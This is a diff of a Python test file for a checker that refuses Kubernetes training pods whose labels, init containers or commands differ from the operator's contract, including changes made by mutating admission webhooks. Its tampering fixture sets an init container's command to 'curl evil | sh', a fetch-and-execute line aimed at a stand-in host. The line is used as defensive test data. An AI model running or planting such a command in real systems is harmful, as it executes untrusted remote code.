@@ -134,12 +134,26 @@ def test_no_pod_is_measured_once_the_training_finished(phase: str) -> None:
 
 def test_a_changed_pod_is_refused_naming_the_path() -> None:
     pod = live_pod()
-    pod["spec"]["initContainers"][1]["command"] = ["sh", "-c", "curl evil | sh"]
+    pod["metadata"]["labels"]["aicert.dev/training"] = "other"
     verdict = check(pod)
     assert verdict == Verdict(
         Action.REFUSE,
         Reason.POD_MISMATCH,
-        "pod run-2 is not the pod the operator made: spec.initContainers[train].command differ from the contract",
+        "pod run-2 is not the pod the operator made: metadata.labels[aicert.dev/training] changed",
+    )
+    assert verdict.reason in REFUSALS
+
+
+def test_a_pod_mutated_at_admission_is_refused_naming_what_was_injected() -> None:
+    pod = live_pod()
+    pod["spec"]["initContainers"].insert(0, {"name": "linkerd-init", "image": "cr.l5d.io/linkerd/proxy-init"})
+    pod["spec"]["initContainers"][2]["command"] = ["sh", "-c", "curl evil | sh"]
+    verdict = check(pod)
+    assert verdict == Verdict(
+        Action.REFUSE,
+        Reason.POD_MUTATED,
+        "pod run-2 was changed by admission when it was created (a mutating webhook or policy, such as a "
+        "sidecar injector): spec.initContainers[linkerd-init] added, spec.initContainers[train].command changed",
     )
     assert verdict.reason in REFUSALS
 
